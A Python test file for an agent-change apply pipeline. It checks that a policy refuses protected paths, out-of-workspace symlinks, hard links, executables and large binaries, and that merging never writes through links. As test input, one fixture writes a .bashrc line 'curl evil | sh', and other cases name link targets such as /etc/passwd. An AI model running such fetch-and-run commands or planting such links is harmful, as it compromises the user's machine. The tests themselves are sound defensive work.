"""The host side of a reviewed apply without Docker: a working copy is made
without `.git`, its change set is read without following links, policy refuses
protected paths, links out, executables, hard links and large binaries, and the
apply merges against what the workspace holds now, writing the stored (reviewed)
bytes, never through a link, and nothing at all when a path conflicts."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from orchestrator.apply.changeset import ContentStore
from orchestrator.apply.compute import compute_change_set
from orchestrator.apply.merge import apply_change_set
from orchestrator.apply.policy import ApplyPolicy, decide, link_problem
from orchestrator.apply.workcopy import WorkingCopy, content_store, make_working_copy


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / ".git").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / "src").mkdir()
    (ws / "src" / "app.py").write_text("one\ntwo\nthree\nfour\nfive\n")
    (ws / "README").write_text("hello\n")
    return ws


def copy_of(ws: Path, tmp_path: Path, task: str = "t1") -> tuple[WorkingCopy, ContentStore]:
    state = tmp_path / "state"
    copy = make_working_copy(ws, state, run_id="r", task_id=task, agent="coder", session="s")
    return copy, content_store(state)


def apply_now(copy: WorkingCopy, store: ContentStore, ws: Path):  # type: ignore[no-untyped-def]
    change_set, _ = compute_change_set(copy, store)
    fd = os.open(ws, os.O_RDONLY | os.O_DIRECTORY)
    try:
        return change_set, apply_change_set(change_set, fd, store)
    finally:
        os.close(fd)


def test_the_copy_leaves_git_out_and_lives_outside_the_workspace(
    workspace: Path, tmp_path: Path
) -> None:
    copy, _ = copy_of(workspace, tmp_path)
    assert not (copy.work / ".git").exists()
    assert (copy.work / "src" / "app.py").read_text() == (workspace / "src/app.py").read_text()
    assert workspace not in copy.work.parents
    assert (tmp_path / "state" / "apply").stat().st_mode & 0o777 == 0o700
    assert copy.record.base.startswith("snapshot:")


def test_change_set_kinds(workspace: Path, tmp_path: Path) -> None:
    copy, store = copy_of(workspace, tmp_path)
    (copy.work / "src" / "app.py").write_text("changed\n")
    (copy.work / "README").unlink()
    (copy.work / "new.bin").write_bytes(b"\0\1\2")
    (copy.work / "link").symlink_to("src/app.py")
    os.mkfifo(copy.work / "fifo")  # never opened: the walk would block on it
    change_set, tree = compute_change_set(copy, store)
    kinds = {c.path: c.kind for c in change_set.changes}
    assert kinds == {
        "README": "removed",
        "link": "symlink",
        "new.bin": "added",
        "src/app.py": "modified",
    }
    assert "fifo" in tree.skipped
    new_bin = next(c for c in change_set.changes if c.path == "new.bin")
    assert new_bin.binary and new_bin.new_sha256 and store.read(new_bin.new_sha256) == b"\0\1\2"
    app = next(c for c in change_set.changes if c.path == "src/app.py")
    assert app.old_sha256 and store.read(app.old_sha256) == b"one\ntwo\nthree\nfour\nfive\n"


def test_a_link_swapped_in_for_a_directory_is_not_followed(workspace: Path, tmp_path: Path) -> None:
    secret = tmp_path / "host-secret"
    secret.mkdir()
    (secret / "key").write_text("SECRET")
    copy, store = copy_of(workspace, tmp_path)
    shutil.rmtree(copy.work / "src")
    (copy.work / "src").symlink_to(secret)
    change_set, _ = compute_change_set(copy, store)
    paths = {c.path: c for c in change_set.changes}
    assert paths["src"].kind == "symlink" and paths["src"].link_target == str(secret)
    assert "src/key" not in paths
    reasons = decide(change_set, ApplyPolicy())
    assert any(r.path == "src" and "outside the workspace" in r.reason for r in reasons)


def test_a_hard_link_is_refused(workspace: Path, tmp_path: Path) -> None:
    copy, store = copy_of(workspace, tmp_path)
    os.link(copy.work / "README", copy.work / "again")
    change_set, _ = compute_change_set(copy, store)
    reasons = decide(change_set, ApplyPolicy())
    assert {r.rule for r in reasons} == {"hard link"}


def test_policy_rejections(workspace: Path, tmp_path: Path) -> None:
    copy, store = copy_of(workspace, tmp_path)
    (copy.work / ".claude").mkdir()
    (copy.work / ".claude" / "settings.json").write_text("{}")
    (copy.work / ".bashrc").write_text("curl evil | sh\n")
    (copy.work / "run.sh").write_text("#!/bin/sh\n")
    os.chmod(copy.work / "run.sh", 0o755)
    (copy.work / "big.bin").write_bytes(b"\0" * 2048)
    (copy.work / "ok.txt").write_text("fine\n")
    change_set, _ = compute_change_set(copy, store)
    reasons = {r.path: r.rule for r in decide(change_set, ApplyPolicy(max_binary_bytes=1024))}
    assert reasons == {
        ".bashrc": ".bashrc",
        ".claude/settings.json": ".claude",
        "big.bin": "size cap",
        "run.sh": "executable",
    }
    denied = decide(
        change_set,
        ApplyPolicy(max_binary_bytes=4096, allow_executable=True),
        edit=lambda p: (
            ("deny", "Edit(ok.txt)", "Edit(ok.txt)") if p == "ok.txt" else ("allow", "", "")
        ),
    )
    assert {r.path for r in denied} == {".bashrc", ".claude/settings.json", "ok.txt"}


@pytest.mark.parametrize(
    ("path", "target", "refused"),
    [
        ("a", "b", False),
        ("d/a", "../b", False),
        ("a", "/etc/passwd", True),
        ("d/a", "../../x", True),
        ("a", "sub/l/..", True),
        ("a", ".git/config", True),
        ("d/a", "../.claude/settings.json", True),
    ],
)
def test_link_targets(path: str, target: str, refused: bool) -> None:
    assert bool(link_problem(path, target)) is refused


def test_apply_writes_the_stored_bytes_and_merges(workspace: Path, tmp_path: Path) -> None:
    copy, store = copy_of(workspace, tmp_path)
    (copy.work / "src" / "app.py").write_text("one\ntwo\nthree\nfour\nFIVE\n")
    (copy.work / "new.txt").write_text("new\n")
    (workspace / "src" / "app.py").write_text(
        "ONE\ntwo\nthree\nfour\nfive\n"
    )  # the person meanwhile
    change_set, _ = compute_change_set(copy, store)
    # The copy changes after the change set was computed: what is applied is what was read.
    (copy.work / "new.txt").write_text("swapped after review\n")
    fd = os.open(workspace, os.O_RDONLY | os.O_DIRECTORY)
    try:
        result = apply_change_set(change_set, fd, store)
    finally:
        os.close(fd)
    assert not result.conflicts
    assert result.merged == ("src/app.py",)
    assert (workspace / "src" / "app.py").read_text() == "ONE\ntwo\nthree\nfour\nFIVE\n"
    assert (workspace / "new.txt").read_text() == "new\n"


def test_a_conflict_applies_nothing(workspace: Path, tmp_path: Path) -> None:
    copy, store = copy_of(workspace, tmp_path)
    (copy.work / "src" / "app.py").write_text("one\nTWO-agent\nthree\nfour\nfive\n")
    (copy.work / "new.txt").write_text("new\n")
    (workspace / "src" / "app.py").write_text("one\nTWO-person\nthree\nfour\nfive\n")
    _, result = apply_now(copy, store, workspace)
    assert [c.path for c in result.conflicts] == ["src/app.py"]
    assert result.applied == ()
    assert not (workspace / "new.txt").exists()
    assert (workspace / "src" / "app.py").read_text() == "one\nTWO-person\nthree\nfour\nfive\n"


def test_apply_never_writes_through_a_link_in_the_workspace(
    workspace: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    copy, store = copy_of(workspace, tmp_path)
    (copy.work / "src" / "app.py").write_text("agent\n")
    (copy.work / "README").write_text("agent readme\n")
    # Meanwhile a non-isolated sandbox swaps src for a link to a host directory and
    # README for a link to a host file.
    shutil.rmtree(workspace / "src")
    (workspace / "src").symlink_to(outside)
    (outside / "victim").write_text("host\n")
    (workspace / "README").unlink()
    (workspace / "README").symlink_to(outside / "victim")
    _, result = apply_now(copy, store, workspace)
    assert {c.path for c in result.conflicts} == {"README", "src/app.py"}
    assert (outside / "victim").read_text() == "host\n"
    assert not (outside / "app.py").exists()


def test_removal_and_already_applied(workspace: Path, tmp_path: Path) -> None:
    copy, store = copy_of(workspace, tmp_path)
    (copy.work / "README").unlink()
    (copy.work / "x.txt").write_text("x\n")
    (workspace / "x.txt").write_text("x\n")  # the same content is there already
    _, result = apply_now(copy, store, workspace)
    assert not result.conflicts
    assert result.applied == ("README",)
    assert not (workspace / "README").exists()
